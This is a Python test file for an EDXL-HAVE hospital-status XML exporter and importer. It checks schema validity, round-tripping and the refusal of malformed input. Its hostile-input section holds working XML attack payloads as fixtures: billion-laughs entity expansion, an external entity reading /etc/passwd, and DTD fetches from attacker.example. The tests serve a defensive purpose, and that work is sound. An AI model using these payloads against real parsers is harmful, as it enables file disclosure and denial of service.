"""EDXL-HAVE 1.0: exports validate against the official schema; bad XML is refused."""

from __future__ import annotations

import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from magen.domain.base import Actor, DecisionContext, Recorded, decide, evolve
from magen.domain.hospitals import (
    AmbulanceOffload,
    BedCapacity,
    BedType,
    ClinicalStatus,
    EmsTraffic,
    FacilityStatus,
    Hospital,
    Hospitals,
    HospitalStatus,
    MorgueCapacity,
    MorgueStatus,
    OffloadStatus,
    RegisterHospital,
    SecurityStatus,
    Staffing,
    TriageCensus,
)
from magen.domain.state import State
from magen.domain.values import GeoPoint, Role
from magen.interop import XmlError, parse_untrusted_xml
from magen.interop.edxl_have import (
    HAVE_NS,
    EdxlError,
    HaveHospital,
    export_have,
    import_have,
    status_commands,
)

SCHEMA_DIR = Path(__file__).resolve().parents[2] / "src" / "magen" / "standards" / "edxl-have-1.0"
T0 = datetime(2023, 10, 7, 8, 15, tzinfo=UTC)


@pytest.fixture(scope="module")
def official_schema() -> etree.XMLSchema:
    parser = etree.XMLParser(no_network=True)
    return etree.XMLSchema(etree.parse(str(SCHEMA_DIR / "edxl-have.xsd"), parser))


def _valid(schema: etree.XMLSchema, data: bytes) -> None:
    doc = etree.fromstring(data)
    assert schema.validate(doc), schema.error_log


FULL = HospitalStatus(
    ems_traffic=EmsTraffic.ADVISORY,
    ems_traffic_reason="mass casualty event; trauma bay full",
    ems_capacity=TriageCensus(red=2, yellow=10, green=40),
    census=TriageCensus(red=14, yellow=22, green=61, black=5),
    offload=AmbulanceOffload(status=OffloadStatus.DELAYED, minutes=25),
    beds=(
        BedCapacity(bed_type=BedType.ADULT_ICU, available=0, baseline=24, additional_24h=6),
        BedCapacity(bed_type=BedType.OPERATING_ROOMS, available=3, baseline=16),
        BedCapacity(bed_type=BedType.PEDIATRIC_ICU, available=2),
    ),
    clinical=ClinicalStatus.FULL,
    morgue=MorgueCapacity(status=MorgueStatus.EXCEEDED, units=0),
    facility=FacilityStatus.COMPROMISED,
    security=SecurityStatus.LOCKDOWN,
    staffing=Staffing.INSUFFICIENT,
    comments=("Entry by the north gate only", "כניסה משער צפון בלבד"),
)


def _hospital(hospital_id: str = "soroka", status: HospitalStatus = FULL, **kw: object) -> Hospital:
    fields: dict[str, object] = {
        "hospital_id": hospital_id,
        "name": "Soroka Medical Center — סורוקה",
        "where": GeoPoint(lat=31.2584, lon=34.8006),
        "account_id": None,
        "trauma_centre": True,
        "paediatric": True,
        "registered_at": T0 - timedelta(days=1),
        "status": status,
        "status_at": T0 if not status.is_empty() else None,
    }
    fields.update(kw)
    return Hospital(**fields)  # type: ignore[arg-type]


def test_a_full_status_export_is_valid_against_the_official_schema(
    official_schema: etree.XMLSchema,
) -> None:
    data = export_have([_hospital()])
    _valid(official_schema, data)
    root = etree.fromstring(data)
    assert root.tag == f"{{{HAVE_NS}}}HospitalStatus"
    assert b"urn:oasis:names:tc:ciq:xnl:3" in data
    assert b"<gml:pos>31.2584 34.8006</gml:pos>" in data
    assert b"<LastUpdateTime>2023-10-07T08:15:00Z</LastUpdateTime>" in data


def test_a_hospital_without_a_status_and_several_hospitals_are_valid(
    official_schema: etree.XMLSchema,
) -> None:
    bare = _hospital("barzilai", HospitalStatus(), name="Barzilai")
    partial = _hospital("assuta", HospitalStatus(security=SecurityStatus.ELEVATED), name="Assuta")
    data = export_have([bare, partial, _hospital()])
    _valid(official_schema, data)
    assert len(etree.fromstring(data)) == 3
    assert b"2023-10-06T08:15:00Z" in data  # a hospital that never reported: its registration


def test_nothing_to_export_is_an_error() -> None:
    with pytest.raises(EdxlError, match="at least one hospital"):
        export_have([])


def test_export_then_import_gives_back_the_same_status() -> None:
    h = _hospital()
    [back] = import_have(export_have([h]))
    assert back == HaveHospital(
        hospital_id="soroka", name=h.name, where=h.where, status=h.status, last_update=T0
    )


# Statuses for the property test: every section optional, any mix of bed types.
_counts = st.integers(min_value=0, max_value=5000)
_census = st.builds(TriageCensus, red=_counts, yellow=_counts, green=_counts, black=_counts)
_text = (
    st.text(
        alphabet=st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Zl", "Zp")),
        min_size=1,
        max_size=40,
    )
    .map(str.strip)
    .filter(bool)
)
_bed = st.builds(
    BedCapacity,
    bed_type=st.sampled_from(BedType),
    available=_counts,
    baseline=st.none() | _counts,
    additional_24h=st.none() | _counts,
)


@st.composite
def _statuses(draw: st.DrawFn) -> HospitalStatus:
    traffic = draw(st.none() | st.sampled_from(EmsTraffic))
    beds = draw(st.lists(_bed, max_size=5, unique_by=lambda b: b.bed_type))
    return HospitalStatus(
        ems_traffic=traffic,
        ems_traffic_reason=draw(st.just("") | _text) if traffic else "",
        ems_capacity=draw(st.none() | _census),
        census=draw(st.none() | _census),
        offload=draw(
            st.none()
            | st.builds(
                AmbulanceOffload,
                status=st.sampled_from(OffloadStatus),
                minutes=st.none() | st.integers(0, 600),
            )
        ),
        beds=tuple(beds),
        clinical=draw(st.none() | st.sampled_from(ClinicalStatus)),
        morgue=draw(
            st.none()
            | st.builds(
                MorgueCapacity,
                status=st.none() | st.sampled_from(MorgueStatus),
                units=st.none() | _counts,
            )
        ),
        facility=draw(st.none() | st.sampled_from(FacilityStatus)),
        security=draw(st.none() | st.sampled_from(SecurityStatus)),
        staffing=draw(st.none() | st.sampled_from(Staffing)),
        comments=tuple(draw(st.lists(_text, max_size=3))),
    )


@settings(max_examples=60, deadline=None)
@given(status=_statuses(), lat=st.floats(-90, 90), lon=st.floats(-180, 180))
def test_any_status_exports_valid_and_round_trips(
    official_schema: etree.XMLSchema, status: HospitalStatus, lat: float, lon: float
) -> None:
    h = _hospital(status=status, where=GeoPoint(lat=lat, lon=lon), status_at=T0)
    data = export_have([h])
    _valid(official_schema, data)
    [back] = import_have(data)
    assert back.status == status
    assert back.where == h.where


def test_import_reads_a_document_written_by_another_system() -> None:
    doc = f"""<?xml version="1.0" encoding="UTF-8"?>
<HospitalStatus xmlns="{HAVE_NS}" xmlns:xnl="urn:oasis:names:tc:ciq:xnl:3"
    xmlns:gml="http://www.opengis.net/gml">
  <Hospital>
    <Organization>
      <OrganizationInformation>
        <xnl:OrganisationName><xnl:NameElement>Barzilai</xnl:NameElement>
          <xnl:NameElement>Medical Center</xnl:NameElement></xnl:OrganisationName>
      </OrganizationInformation>
      <CommentText>Ashkelon</CommentText>
    </Organization>
    <EmergencyDepartmentStatus>
      <EMSTraffic><EMSTrafficStatus>Closed</EMSTrafficStatus>
        <EMSTrafficReason>under rocket fire</EMSTrafficReason></EMSTraffic>
      <EMSCensus>
        <TriageCode><TriageCodeValue>Red</TriageCodeValue>
          <TriageCountQuantity>7</TriageCountQuantity></TriageCode>
        <TriageCode><TriageCodeValue>Black</TriageCodeValue>
          <TriageCountQuantity>2</TriageCountQuantity></TriageCode>
      </EMSCensus>
    </EmergencyDepartmentStatus>
    <HospitalBedCapacityStatus>
      <BedCapacity><BedType>Burn</BedType>
        <Capacity><CapacityStatus>NotAvailable</CapacityStatus></Capacity></BedCapacity>
      <BedCapacity><BedType>MedicalSurgical</BedType>
        <Capacity><AvailableCount>12</AvailableCount><BaselineCount>300</BaselineCount>
        </Capacity></BedCapacity>
    </HospitalBedCapacityStatus>
    <ServiceCoverageStatus><Burn>true</Burn></ServiceCoverageStatus>
    <HospitalFacilityStatus><HospitalEOCStatus>Active</HospitalEOCStatus>
      <SecurityStatus>RestrictedAccess</SecurityStatus></HospitalFacilityStatus>
    <LastUpdateTime>2023-10-07T10:30:00+03:00</LastUpdateTime>
  </Hospital>
</HospitalStatus>""".encode()
    [h] = import_have(doc)
    assert (h.hospital_id, h.name, h.where) == (None, "Barzilai Medical Center", None)
    assert h.last_update == datetime(2023, 10, 7, 7, 30, tzinfo=UTC)
    assert h.status == HospitalStatus(
        ems_traffic=EmsTraffic.CLOSED,
        ems_traffic_reason="under rocket fire",
        census=TriageCensus(red=7, black=2),
        beds=(
            BedCapacity(bed_type=BedType.BURN, available=0),
            BedCapacity(bed_type=BedType.MEDICAL_SURGICAL, available=12, baseline=300),
        ),
        security=SecurityStatus.RESTRICTED_ACCESS,
    )


def test_imported_statuses_become_idempotent_commands_for_known_hospitals() -> None:
    state = State()
    admin = Actor("acc_admin", Role.ADMIN)

    def run(cmd: RegisterHospital | object) -> None:
        events = decide(state, cmd, DecisionContext(admin, T0 + timedelta(hours=1)))  # type: ignore[arg-type]
        for e in events:
            r = Recorded(state.position + 1, uuid.uuid4(), T0, admin, None, None, e)
            evolve(state, r)

    run(
        RegisterHospital(
            command_id=uuid.uuid4(),
            hospital_id="soroka",
            name="Soroka",
            where=GeoPoint(lat=31.2, lon=34.8),
        )
    )
    run(
        RegisterHospital(
            command_id=uuid.uuid4(),
            hospital_id="barzilai",
            name="Barzilai",
            where=GeoPoint(lat=31.6, lon=34.5),
        )
    )
    known = state.slice(Hospitals).by_id
    data = export_have(
        [
            _hospital("soroka"),
            _hospital("other-id", name="Barzilai"),
            _hospital("ichilov", name="Ichilov"),
            _hospital("assuta", HospitalStatus(), name="Assuta"),
        ]
    )
    plan = status_commands(import_have(data), known)
    commands = plan.commands
    assert [c.hospital_id for c in commands] == ["soroka", "barzilai"]
    assert (plan.unknown, plan.current) == (["ichilov", "assuta"], [])
    again = status_commands(import_have(data), known)
    assert [c.command_id for c in again.commands] == [c.command_id for c in commands]
    for cmd in commands:
        run(cmd)
    assert known["soroka"].status == FULL
    assert known["barzilai"].status_at == T0
    # Once recorded, the same statuses (or older ones) are current, not commands.
    recorded = status_commands(import_have(data), known)
    assert (recorded.commands, recorded.current) == ([], ["soroka", "barzilai"])


# --- hostile and malformed input ----------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<HospitalStatus xmlns="urn:oasis:names:tc:emergency:EDXL:HAVE:1.0">&lol9;</HospitalStatus>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE HospitalStatus [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<HospitalStatus xmlns="urn:oasis:names:tc:emergency:EDXL:HAVE:1.0">&secret;</HospitalStatus>"""

NETWORK_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE HospitalStatus SYSTEM "http://attacker.example/have.dtd">
<HospitalStatus xmlns="urn:oasis:names:tc:emergency:EDXL:HAVE:1.0"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<HospitalStatus xmlns="urn:oasis:names:tc:emergency:EDXL:HAVE:1.0"/>"""


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, EXTERNAL_ENTITY, NETWORK_DTD, PARAMETER_ENTITY])
def test_hostile_documents_are_refused(doc: bytes) -> None:
    with pytest.raises(EdxlError, match="declares a DTD, which is not allowed"):
        import_have(doc)


def test_a_utf16_dtd_is_refused_too() -> None:
    with pytest.raises(EdxlError, match="DTD"):
        import_have(
            EXTERNAL_ENTITY.replace(b'<?xml version="1.0"?>', b"").decode().encode("utf-16")
        )


@pytest.mark.parametrize(
    ("doc", "message"),
    [
        (b"", "empty"),
        (b"<HospitalStatus", "not well-formed"),
        (b"<alert xmlns='urn:oasis:names:tc:emergency:cap:1.2'/>", "expected an EDXL-HAVE"),
        (
            f"<HospitalStatus xmlns='{HAVE_NS}'><Hospital/></HospitalStatus>".encode(),
            "not valid EDXL-HAVE 1.0",
        ),
        (
            export_have([_hospital()]).replace(b">Advisory<", b">Open<"),
            "not valid EDXL-HAVE 1.0",
        ),
        (
            export_have([_hospital()]).replace(b"<AvailableCount>3<", b"<AvailableCount>-3<"),
            "hospital 1: AvailableCount is negative",
        ),
        (
            export_have([_hospital()]).replace(b"31.2584 34.8006", b"31.2584 34.8006 12"),
            "hospital 1: a hospital position is 'lat lon'",
        ),
        (
            export_have([_hospital()]).replace(b"31.2584 34.8006", b"131.2584 34.8006"),
            "hospital 1: lat: Input should be less than or equal to 90",
        ),
    ],
)
def test_malformed_documents_are_refused_with_the_reason(doc: bytes, message: str) -> None:
    with pytest.raises(EdxlError, match=message):
        import_have(doc)


def test_oversize_and_text_input_are_refused() -> None:
    with pytest.raises(EdxlError, match="limit"):
        import_have(export_have([_hospital()]), max_bytes=100)
    with pytest.raises(EdxlError, match="bytes"):
        import_have(export_have([_hospital()]).decode())  # type: ignore[arg-type]


def test_the_safe_parser_is_shared() -> None:
    with pytest.raises(XmlError, match="DTD"):
        parse_untrusted_xml(EXTERNAL_ENTITY, what="test")
    assert parse_untrusted_xml(b"<r><!-- note --><a/></r>", what="test")[0].tag == "a"


def _with_census(body: str) -> bytes:
    return f"""<HospitalStatus xmlns="{HAVE_NS}" xmlns:xnl="urn:oasis:names:tc:ciq:xnl:3">
  <Hospital>
    <Organization><OrganizationInformation>
      <xnl:OrganisationName><xnl:NameElement>Barzilai</xnl:NameElement></xnl:OrganisationName>
    </OrganizationInformation></Organization>
    {body}
    <LastUpdateTime>2023-10-07T10:30:00Z</LastUpdateTime>
  </Hospital>
</HospitalStatus>""".encode()


def _ed_census(codes: str, urn: str = "") -> str:
    listed = f"<TriageCodeListURN>{urn}</TriageCodeListURN>" if urn else ""
    census = f"<EMSCensus>{listed}{codes}</EMSCensus>"
    return f"<EmergencyDepartmentStatus>{census}</EmergencyDepartmentStatus>"


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (
            _ed_census("<TriageCode><TriageCodeValue>Red</TriageCodeValue></TriageCode>"),
            "every TriageCodeValue needs its TriageCountQuantity",
        ),
        (
            _ed_census(
                "<TriageCode><TriageCodeValue>Red</TriageCodeValue>"
                "<TriageCountQuantity>-2</TriageCountQuantity></TriageCode>"
            ),
            "EMSCensus: the Red count is negative",
        ),
        (_ed_census("", urn="urn:example:start-colours"), "only the default colours are read"),
        (
            "<HospitalBedCapacityStatus>"
            + "<BedCapacity><BedType>Burn</BedType><Capacity><AvailableCount>1</AvailableCount>"
            "</Capacity></BedCapacity>" * 2 + "</HospitalBedCapacityStatus>",
            "bed type Burn is reported twice",
        ),
    ],
)
def test_census_and_bed_errors_name_the_problem(body: str, message: str) -> None:
    with pytest.raises(EdxlError, match=message):
        import_have(_with_census(body))


def test_a_bed_without_a_count_is_skipped_and_a_local_time_needs_a_zone() -> None:
    vague = (
        "<HospitalBedCapacityStatus><BedCapacity><BedType>Burn</BedType>"
        "<Capacity><CapacityStatus>Vacant/Available</CapacityStatus></Capacity>"
        "</BedCapacity></HospitalBedCapacityStatus>"
    )
    [h] = import_have(_with_census(vague))
    assert h.status.beds == ()
    no_zone = _with_census("").replace(b"10:30:00Z", b"10:30:00")
    with pytest.raises(EdxlError, match="has no time zone"):
        import_have(no_zone)
    with pytest.raises(EdxlError, match="timezone-aware"):
        export_have([_hospital(status_at=datetime(2023, 10, 7))])
